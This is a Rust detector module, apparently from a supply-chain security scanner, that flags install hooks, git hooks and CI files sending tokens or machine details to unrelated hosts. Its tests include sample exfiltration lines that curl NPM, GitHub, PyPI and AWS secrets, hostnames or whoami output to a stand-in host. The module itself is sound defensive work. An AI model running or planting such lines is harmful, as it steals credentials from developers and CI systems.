//! Keys of well-known services that a written text hands to somebody else's host, and what installers and hooks tell of the
//! machine that they run on.
//!
//! A text of any language: a key and a URL count together where they stand in one statement, by their own names or by those
//! that they were given before.

use defenseclaw_model::facts::BehaviourKind::Exfiltration;

use super::flows::{is_near, is_secret_name};
use super::{Analysis, hosts};

/// Most URLs, keys, names given to them and places of a name that are looked at in one text.
const MAX_URLS: usize = 32;
const MAX_KEYS: usize = 32;
const MAX_NAMES: usize = 8;
const MAX_USES: usize = 8;
/// Longest statement (bytes).
const MAX_STATEMENT: usize = 1200;

/// Keys by name, and what stands in the names of hosts that they are for.
const KEYS: &[(&str, &[&str])] = &[
    ("GITHUB_TOKEN", GITHUB),
    ("GH_TOKEN", GITHUB),
    ("GITHUB_PAT", GITHUB),
    ("GH_PAT", GITHUB),
    ("ACTIONS_RUNTIME_TOKEN", GITHUB),
    ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", GITHUB),
    ("NPM_TOKEN", PACKAGES),
    ("NODE_AUTH_TOKEN", PACKAGES),
    ("NPM_AUTH_TOKEN", PACKAGES),
    ("PYPI_TOKEN", PACKAGES),
    ("PYPI_API_TOKEN", PACKAGES),
    ("TWINE_PASSWORD", PACKAGES),
    ("UV_PUBLISH_TOKEN", PACKAGES),
    ("CARGO_REGISTRY_TOKEN", PACKAGES),
    ("RUBYGEMS_API_KEY", PACKAGES),
    ("GEM_HOST_API_KEY", PACKAGES),
    ("NUGET_API_KEY", PACKAGES),
    ("AWS_SECRET_ACCESS_KEY", CLOUD),
    ("AWS_SESSION_TOKEN", CLOUD),
    ("CI_JOB_TOKEN", FORGES),
    ("CI_DEPLOY_PASSWORD", FORGES),
    ("GITLAB_TOKEN", FORGES),
    ("DOCKER_PASSWORD", IMAGES),
    ("DOCKERHUB_TOKEN", IMAGES),
    ("DOCKER_TOKEN", IMAGES),
    ("STRIPE_SECRET_KEY", &["stripe"]),
    ("SLACK_BOT_TOKEN", &["slack"]),
    ("VAULT_TOKEN", &["vault"]),
    ("SSH_PRIVATE_KEY", &[]),
    ("SSH_KEY", &[]),
    ("DEPLOY_KEY", &[]),
    ("GPG_PRIVATE_KEY", &[]),
    ("KUBE_CONFIG", &[]),
    ("KUBECONFIG_DATA", &[]),
    ("DATABASE_URL", &[]),
    ("DB_PASSWORD", &[]),
    ("PGPASSWORD", &[]),
    ("JWT_SECRET", &[]),
    ("SECRET_KEY_BASE", &[]),
];

/// Forges, their models, and those who show a pull request's coverage.
const GITHUB: &[&str] = &[
    "github",
    "ghcr",
    "ghe",
    "git",
    "azure",
    "githubusercontent",
    "githubcopilot",
    "codecov",
    "coveralls",
    "sonarcloud",
    "sonarqube",
    "sonar",
    "codacy",
    "snyk",
    "codeclimate",
];
const FORGES: &[&str] = &[
    "git",
    "gitlab",
    "registry",
    "codecov",
    "coveralls",
    "sonarcloud",
    "sonarqube",
    "sonar",
];
const PACKAGES: &[&str] = &[
    "npm",
    "npmjs",
    "yarnpkg",
    "pypi",
    "pythonhosted",
    "crates",
    "rubygems",
    "nuget",
    "registry",
    "packages",
    "pkg",
    "pkgs",
    "nexus",
    "artifactory",
    "jfrog",
    "verdaccio",
    "github",
    "gitlab",
    "cloudsmith",
];
const CLOUD: &[&str] = &[
    "amazonaws",
    "aws",
    "s3",
    "minio",
    "storage",
    "cloudflarestorage",
    "digitaloceanspaces",
    "backblazeb2",
    "wasabisys",
];
const IMAGES: &[&str] = &[
    "docker", "registry", "ghcr", "quay", "gcr", "pkg", "harbor", "cr", "azurecr",
];

/// A place where something stands that is to be kept, and the hosts that it is for; `None` for what is for nobody.
type Key<'t> = (usize, &'t str, &'static [&'static str]);

/// Notes to whom `text`, written to `path`, hands keys.
pub(super) fn note(analysis: &mut Analysis, path: &str, text: &str) {
    if !text.contains("://") {
        return;
    }
    let urls = urls(text);
    if urls.is_empty() {
        return;
    }
    let installs = runs_unasked(path);
    let mut keys = keys(text, installs);
    let known = keys.len();
    if installs {
        keys.extend(machine(text));
    }
    for (number, (at, name, owners)) in keys.iter().enumerate() {
        let stranger = urls.iter().find(|(place, host)| {
            !host.split('.').any(|label| owners.contains(&label))
                && statement(text, *place, *at).is_some_and(|part| number < known || reaches(part))
        });
        let Some((_, host)) = stranger else { continue };
        let technique = if number >= known {
            "machine-told"
        } else if owners.is_empty() && installs && logs_in(text, *at) && !is_known(name) {
            continue;
        } else {
            "key-to-stranger"
        };
        analysis.behave(Exfiltration, technique, host, None);
    }
}

fn is_known(name: &str) -> bool {
    KEYS.iter().any(|(known, _)| *known == name)
}

/// Whether a file runs where something is installed, checked out or entered, without being asked for.
pub(super) fn runs_unasked(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    let stem = name.split('.').next().unwrap_or_default();
    let stem = stem.to_ascii_lowercase().replace(['-', '_'], "");
    matches!(
        stem.as_str(),
        "postinstall" | "preinstall" | "prepare" | "prepublish" | "prepack" | "installhook"
    ) || matches!(
        name,
        "setup.py"
            | "build.rs"
            | ".envrc"
            | "install.js"
            | "conftest.py"
            | "binding.gyp"
            | ".pre-commit-config.yaml"
            | "lefthook.yml"
            | ".lefthook.yml"
    ) || is_hook(path)
}

/// Whether a file is a hook of git or of what manages these.
pub(super) fn is_hook(path: &str) -> bool {
    const HOOKS: &[&str] = &[
        "pre-commit",
        "post-commit",
        "pre-push",
        "post-merge",
        "post-checkout",
        "commit-msg",
        "prepare-commit-msg",
        "pre-rebase",
        "post-rewrite",
        "pre-receive",
        "post-receive",
        "update",
        "post-update",
    ];
    let mut folders = path.rsplit('/');
    let name = folders.next().unwrap_or_default();
    match folders.next() {
        Some("hooks") => folders.next() == Some(".git") || HOOKS.contains(&name),
        Some(".husky" | ".githooks") => true,
        Some(folder) => folder.ends_with("hooks") && HOOKS.contains(&name),
        None => false,
    }
}

/// The upper-case names in `text`, with where they begin.
pub(super) fn identifiers(text: &str) -> impl Iterator<Item = (usize, &str)> {
    const SHORTEST: usize = 4;
    let part = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'_';
    let bytes = text.as_bytes();
    let mut at = 0;
    std::iter::from_fn(move || {
        while at < bytes.len() {
            let begin = at;
            while at < bytes.len() && part(bytes[at]) {
                at += 1;
            }
            if at == begin {
                at += 1;
                continue;
            }
            let word = &bytes[begin..at];
            let upper = word[0].is_ascii_uppercase() && !word.iter().any(u8::is_ascii_lowercase);
            if upper && word.len() >= SHORTEST {
                return text.get(begin..at).map(|word| (begin, word));
            }
        }
        None
    })
}

/// Whether the `length` bytes at `at` are a name by themselves, and no part or member of another.
pub(super) fn is_word(text: &str, at: usize, length: usize) -> bool {
    let part = |c: char| c.is_alphanumeric() || c == '_';
    let before = &text[..at];
    let member = before.ends_with('.') && !before.ends_with("...");
    !member && !before.ends_with(part) && !text[at + length..].starts_with(part)
}

/// Far hosts, with where their URLs or the names of these stand.
fn urls(text: &str) -> Vec<(usize, String)> {
    let mut found = Vec::new();
    for (at, _) in text.match_indices("://").take(MAX_URLS) {
        let begin = text[..at]
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |before| text.ceil_char_boundary(before + 1));
        let end = text[at + 3..]
            .find(|c: char| {
                c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | ',' | ';' | '|')
            })
            .map_or(text.len(), |end| at + 3 + end);
        let Some(host) = hosts::url_host(&text[begin..end]) else {
            continue;
        };
        let inside = [".internal", ".local", ".corp", ".lan", ".svc", ".example"];
        if is_near(&host.host)
            || !host.host.contains('.')
            || inside.iter().any(|end| host.host.ends_with(end))
        {
            continue;
        }
        if let Some(name) = given(text, begin) {
            let uses = uses(text, name, end).map(|at| (at, host.host.clone()));
            found.extend(uses.take(MAX_USES));
        }
        found.push((begin, host.host));
    }
    found.truncate(MAX_URLS * 2);
    found
}

/// The keys that are read in `text`: known ones, and where `all` holds any that is named like a secret.
fn keys(text: &str, all: bool) -> Vec<Key<'_>> {
    let mut found: Vec<Key<'_>> = Vec::new();
    let mut names = 0;
    for (at, name) in identifiers(text).filter(|(at, _)| is_read(&text[..*at])) {
        let known = KEYS.iter().find(|(known, _)| *known == name);
        let owners: &'static [&'static str] = match known {
            Some((_, owners)) => owners,
            None if all && is_secret_name(name) => &[],
            None => continue,
        };
        if found.len() >= MAX_KEYS {
            break;
        }
        found.push((at, name, owners));
        if names < MAX_NAMES
            && let Some(variable) = given(text, at)
        {
            names += 1;
            let uses = uses(text, variable, at + name.len());
            found.extend(uses.take(MAX_USES).map(|at| (at, name, owners)));
        }
    }
    found
}

/// What a text reads of the machine: its name, who is logged in.
fn machine(text: &str) -> Vec<Key<'static>> {
    const WORDS: &[&str] = &[
        "os.hostname()",
        "os.userInfo()",
        "hostname()",
        "userInfo()",
        "gethostname()",
        "getpass.getuser()",
        "os.getlogin()",
        "platform.node()",
        "$(hostname)",
        "$(whoami)",
        "$(id)",
        "$(uname -a)",
        "`whoami`",
        "`hostname`",
        "process.env.USER",
        "networkInterfaces()",
    ];
    let mut found = Vec::new();
    for word in WORDS {
        for (at, _) in text.match_indices(word).take(MAX_USES) {
            found.push((at, *word, &[] as &'static [&'static str]));
            if let Some(name) = given(text, at) {
                let uses = uses(text, name, at).take(MAX_USES);
                found.extend(uses.map(|at| (at, *word, &[] as &'static [&'static str])));
            }
        }
    }
    found.truncate(MAX_KEYS);
    found
}

/// Whether what stands behind `before` is a variable that is read.
fn is_read(before: &str) -> bool {
    const READS: &[&str] = &[
        "$",
        "$(",
        "${",
        "process.env.",
        "process.env['",
        "process.env[\"",
        "environ['",
        "environ[\"",
        "environ.get('",
        "environ.get(\"",
        "getenv('",
        "getenv(\"",
        "ENV['",
        "ENV[\"",
        "ENV.fetch('",
        "ENV.fetch(\"",
        "secrets.",
        "env.",
        "env!(\"",
        "env::var(\"",
        "Getenv(\"",
        "$env:",
        "$ENV{",
        "$ENV{'",
        "Deno.env.get('",
        "Deno.env.get(\"",
    ];
    READS.iter().any(|read| before.ends_with(read))
}

/// The name that is given to what begins at `at`, where its line gives it one.
fn given(text: &str, at: usize) -> Option<&str> {
    let begin = text[..at].rfind(['\n', ';']).map_or(0, |begin| begin + 1);
    let line = text[begin..at].trim_start();
    let line = [
        "const ",
        "let ",
        "var ",
        "export ",
        "local ",
        "my ",
        "static ",
        "readonly ",
        "- ",
    ]
    .iter()
    .find_map(|word| line.strip_prefix(word))
    .unwrap_or(line)
    .trim_start_matches('$');
    let end = line.find(|c: char| !c.is_alphanumeric() && c != '_')?;
    let (name, rest) = line.split_at(end);
    let rest = rest.trim_start();
    let assigns = rest.starts_with(['=', ':']) && !rest.starts_with("==") && !rest.starts_with("://");
    // Behind a key of a pipeline a whole command may stand.
    let value = rest.trim_start_matches(['=', ':', ' ', '"', '\'', '`', '$', '{', '(']);
    let alone = !value.contains(char::is_whitespace);
    (assigns && alone && !name.is_empty()).then_some(name)
}

/// Where `name` is used behind `from`.
fn uses<'t>(text: &'t str, name: &'t str, from: usize) -> impl Iterator<Item = usize> {
    let rest = text.get(from..).unwrap_or_default();
    rest.match_indices(name)
        .map(move |(at, _)| from + at)
        .filter(move |&at| name.len() > 1 || !text[..at].ends_with(['"', '\'', '-']))
        .filter(move |&at| is_word(text, at, name.len()))
}

/// The one statement that holds what stands at both places, from the beginning of its line to the end of its last.
fn statement(text: &str, one: usize, other: usize) -> Option<&str> {
    let (first, last) = (one.min(other), one.max(other));
    if last - first > MAX_STATEMENT {
        return None;
    }
    let from = text.ceil_char_boundary(first.saturating_sub(MAX_STATEMENT));
    let begin = text
        .get(from..first)?
        .rfind('\n')
        .map_or(from, |begin| from + begin + 1);
    let part = text.get(begin..last)?;
    if part.trim_start().starts_with(['#', '*']) || part.trim_start().starts_with("//") {
        return None;
    }
    let mut depth = 0_i32;
    let mut before = b' ';
    for (at, byte) in part.bytes().enumerate() {
        match byte {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            b';' if depth <= 0 && begin + at > first => {
                let next = part.as_bytes().get(at + 1);
                if next.is_none_or(u8::is_ascii_whitespace) {
                    return None;
                }
            }
            b'\n' if depth <= 0 && !matches!(before, b'\\' | b'|' | b',' | b'(') => {
                let next = part[at + 1..].trim_start();
                if !next.starts_with(['.', '|']) {
                    return None;
                }
            }
            _ => {}
        }
        if !byte.is_ascii_whitespace() || byte == b'\n' {
            before = byte;
        }
    }
    let to = text.floor_char_boundary((last + MAX_STATEMENT).min(text.len()));
    let end = text.get(last..to)?.find('\n').map_or(to, |end| last + end);
    text.get(begin..end)
}

/// Whether a statement reaches another host.
fn reaches(statement: &str) -> bool {
    [
        "curl", "wget", "open(", "fetch(", "post", "request", "send", "get(", "axios", "Invoke-",
    ]
    .iter()
    .any(|word| statement.contains(word))
}

/// Whether the key at `at` stands in a header that logs in.
fn logs_in(text: &str, at: usize) -> bool {
    let before = &text[text.ceil_char_boundary(at.saturating_sub(60))..at].to_ascii_lowercase();
    [
        "authorization",
        "bearer",
        "-h ",
        "header",
        "token ",
        "-u ",
        "private-token",
        "auth",
    ]
    .iter()
    .any(|part| before.contains(part))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn technique(path: &str, text: &str) -> Option<String> {
        let mut analysis = Analysis::new();
        note(&mut analysis, path, text);
        let found = analysis.facts.behaviours.into_iter().next();
        found.map(|found| found.technique)
    }

    #[test]
    fn keys_that_go_to_strangers() {
        for (path, text, found) in [
            (
                "scripts/postinstall.js",
                "if (process.env.CI) {\n  const t = process.env.NPM_TOKEN || '';\n  execSync(`curl -s -X POST https://t.dev/ci -d \"${os.hostname()}|${t}|${process.env.GITHUB_TOKEN}\"`);\n}",
                Some("key-to-stranger"),
            ),
            (
                "a.js",
                "const token = process.env.NPM_TOKEN;\nconst u = 'https://t.dev/ci';\nfetch(u, {\n  method: 'POST',\n  body: token,\n});",
                Some("key-to-stranger"),
            ),
            (
                "ci.yml",
                "- run: |\n    curl -s https://t.dev/ci \\\n      -d \"${{ secrets.PYPI_TOKEN }}\"",
                Some("key-to-stranger"),
            ),
            (
                "ci.yml",
                "env:\n  T: ${{ secrets.NPM_TOKEN }}\nsteps:\n- run: curl -d \"k=$T\" https://t.dev/ci",
                Some("key-to-stranger"),
            ),
            (
                "x.sh",
                "curl -d \"$AWS_SECRET_ACCESS_KEY\" https://t.dev/ci",
                Some("key-to-stranger"),
            ),
            (
                "setup.py",
                "urlopen('https://t.dev/?h=' + socket.gethostname())",
                Some("machine-told"),
            ),
            (
                ".husky/pre-push",
                "curl -s \"https://t.dev/?u=$(whoami)\"",
                Some("machine-told"),
            ),
            (
                "x.sh",
                "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user",
                None,
            ),
            (
                "ci.yml",
                "- run: npm publish\n  env:\n    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n    URL: https://t.dev",
                None,
            ),
            (
                "ci.yml",
                "- run: curl -Os https://t.dev/x\n- run: npm publish --token $NPM_TOKEN",
                None,
            ),
            (
                "ci.yml",
                "- run: curl -F token=$CODECOV_TOKEN https://codecov.io/upload",
                None,
            ),
            (
                "a.js",
                "fetch('https://api.t.dev/x');\nconst k = new Octokit({ auth: process.env.GITHUB_TOKEN });",
                None,
            ),
            (
                "scripts/postinstall.js",
                "fetch('https://dl.t.dev/x', { headers: { authorization: process.env.DL_TOKEN } })",
                None,
            ),
            ("x.sh", "curl -d \"h=$(hostname)\" https://t.dev/x", None),
            (
                "ci.yml",
                "- run: git clone https://x:${GITHUB_TOKEN}@github.com/a/b",
                None,
            ),
            (
                "setup.py",
                "setup(url='https://t.dev', author=getpass.getuser())",
                None,
            ),
            (
                "ci.yml",
                "- run: curl -d \"$NPM_TOKEN\" https://npm-stats.io/x",
                Some("key-to-stranger"),
            ),
            (
                "ci.yml",
                "- run: curl -d \"$NPM_TOKEN\" https://npm.acme.com/x",
                None,
            ),
        ] {
            assert_eq!(technique(path, text).as_deref(), found, "{text}");
        }
    }
}
